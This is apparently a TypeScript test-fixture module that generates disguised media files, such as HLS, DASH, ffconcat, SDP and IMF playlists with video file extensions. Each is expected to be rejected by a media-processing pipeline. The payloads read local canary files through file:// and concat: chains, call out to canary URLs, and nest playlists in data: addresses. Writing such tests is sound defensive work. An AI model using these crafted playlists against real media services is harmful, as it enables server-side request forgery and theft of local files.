import { type HostileFile, notTaken, type Scene } from './hostile-file.ts'

const text = (words: (scene: Scene) => string) => (scene: Scene) => Buffer.from(words(scene))
const hls = (...lines: string[]): string =>
  ['#EXTM3U', '#EXT-X-VERSION:7', '#EXT-X-TARGETDURATION:2', ...lines, '#EXT-X-ENDLIST', ''].join('\n')
const dash = (address: string): string => `<?xml version="1.0" encoding="utf-8"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">
 <Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="100000" codecs="avc1.64001f" width="320" height="180">
  <BaseURL>${address}</BaseURL></Representation></AdaptationSet></Period>
</MPD>
`

/** Texts that name other files and addresses, in the clothes of a film. */
export const disguisedPlaylists: readonly HostileFile[] = [
  {
    name: 'hls-local-text.mp4',
    expected: notTaken,
    make: text(({ canaryText }) => hls('#EXTINF:2,', `file://${canaryText}`)),
  },
  {
    name: 'hls-local-film.mp4',
    expected: notTaken,
    make: text(({ canaryVideo }) => hls('#EXTINF:2,', `file://${canaryVideo}`)),
  },
  {
    name: 'hls-local-film-by-bare-path.mov',
    expected: notTaken,
    make: text(({ canaryVideo }) => hls('#EXTINF:2,', canaryVideo)),
  },
  {
    name: 'hls-carries-text-out.ts',
    expected: notTaken,
    make: text(({ canaryText, canaryUrl }) =>
      hls('#EXTINF:2,', `concat:${canaryUrl}/header|file://${canaryText}`),
    ),
  },
  {
    name: 'hls-calls-out.webm',
    expected: notTaken,
    make: text(({ canaryUrl }) => hls('#EXTINF:2,', `${canaryUrl}/segment.ts`)),
  },
  {
    name: 'hls-key-calls-out.mp4',
    expected: notTaken,
    make: text(({ canaryUrl, canaryVideo }) =>
      hls(`#EXT-X-KEY:METHOD=AES-128,URI="${canaryUrl}/key"`, '#EXTINF:2,', `file://${canaryVideo}`),
    ),
  },
  {
    name: 'hls-head-is-local.mp4',
    expected: notTaken,
    make: text(({ canaryVideo }) =>
      hls(`#EXT-X-MAP:URI="file://${canaryVideo}"`, '#EXTINF:2,', `file://${canaryVideo}`),
    ),
  },
  {
    name: 'hls-master-calls-out.mov',
    expected: notTaken,
    make: text(
      ({ canaryUrl }) =>
        `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000,RESOLUTION=320x180\n${canaryUrl}/media.m3u8\n`,
    ),
  },
  {
    name: 'hls-in-a-data-address.mp4',
    expected: notTaken,
    make: text(({ canaryUrl }) =>
      hls(
        '#EXTINF:2,',
        `data:text/plain;base64,${Buffer.from(hls('#EXTINF:2,', canaryUrl)).toString('base64')}`,
      ),
    ),
  },
  {
    name: 'dash-calls-out.mp4',
    expected: notTaken,
    make: text(({ canaryUrl }) => dash(`${canaryUrl}/film.mp4`)),
  },
  {
    name: 'dash-local-film.webm',
    expected: notTaken,
    make: text(({ canaryVideo }) => dash(`file://${canaryVideo}`)),
  },
  {
    name: 'ffconcat-local-film.mp4',
    expected: notTaken,
    make: text(({ canaryVideo }) => `ffconcat version 1.0\nfile '${canaryVideo}'\nduration 2\n`),
  },
  {
    name: 'ffconcat-calls-out.mov',
    expected: notTaken,
    make: text(({ canaryUrl }) => `ffconcat version 1.0\nfile '${canaryUrl}/film.mp4'\n`),
  },
  {
    name: 'ffconcat-sequence-of-pictures.mp4',
    expected: notTaken,
    make: text(
      ({ dir }) => `ffconcat version 1.0\nfile '${dir}/picture%03d.png'\noption pattern_type sequence\n`,
    ),
  },
  {
    name: 'sdp-listens-and-calls-out.mp4',
    expected: notTaken,
    make: text(
      () =>
        'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=lesson\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 45678 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
    ),
  },
  {
    name: 'imf-composition.mp4',
    expected: notTaken,
    make: text(
      ({ canaryUrl }) =>
        `<?xml version="1.0"?>\n<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:${'0'.repeat(8)}-0000-4000-8000-${'0'.repeat(12)}</Id><ContentTitle>${canaryUrl}</ContentTitle><EditRate>24 1</EditRate><SegmentList/></CompositionPlaylist>\n`,
    ),
  },
]
